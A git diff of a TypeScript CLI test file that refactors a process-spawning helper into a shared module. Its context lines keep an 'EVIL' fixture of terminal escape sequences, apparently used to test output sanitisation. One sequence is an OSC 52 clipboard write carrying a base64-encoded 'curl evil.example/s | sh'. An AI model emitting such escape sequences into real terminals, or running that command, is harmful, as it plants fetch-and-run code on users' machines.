@@ -16,8 +16,8 @@ import { client, uniqueEmail } from "../helpers/http.js";
 import { ADMIN_TOKEN, useTestServer } from "../helpers/server.js";
 import { takeProvidersOffline } from "../helpers/isolation.js";
 import { tempDir } from "../daemon/helpers.js";
+import { runSvc, SVC, type Run } from "./run-svc.js";
 
-const SVC = path.resolve("bin/svc.js");
 const srv = useTestServer({ SVC_JOB_SWEEP_MS: "60000" });
 const api = client(srv);
 
@@ -29,24 +29,7 @@ const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
 const EVIL = "Rig\u001b[2K\u001b[1A\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\u0007\u009b2J\rX";
 const EVIL_SHOWN = "Rig^[[2K^[[1A^[]0;owned^G^[]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo^G\\u009b2J^MX";
 
-interface Run {
-  code: number | null;
-  stdout: string;
-  stderr: string;
-}
-
-/** Runs svc with a config folder of its own and the credential in `env`. */
-function svc(args: string[], env: Record<string, string>): Promise<Run> {
-  const home = tempDir("svc-safe");
-  const e: NodeJS.ProcessEnv = { ...process.env, SVC_CONFIG_DIR: path.join(home, "config"), NO_COLOR: "", ...env };
-  for (const k of ["SVC_KEY", "SVC_ADMIN_TOKEN", "SVC_PROFILE", "SVC_ROLE"]) if (!env[k]) delete e[k];
-  const child = spawn(process.execPath, [SVC, ...args], { env: e, cwd: home, stdio: ["ignore", "pipe", "pipe"] });
-  let stdout = "";
-  let stderr = "";
-  child.stdout.on("data", (d) => (stdout += d));
-  child.stderr.on("data", (d) => (stderr += d));
-  return new Promise((resolve) => child.on("close", (code) => resolve({ code, stdout, stderr })));
-}
+const svc = (args: string[], env: Record<string, string>): Promise<Run> => runSvc(args, { home: tempDir("svc-safe"), env: { NO_COLOR: "", ...env } });
 
 /** Starts svc with a pseudo-terminal as its stdout (script(1), as svc.test.ts draws the progress bar). */
 function svcOnTerminal(args: string[], env: Record<string, string>): { stdout(): string; done: Promise<Run> } {
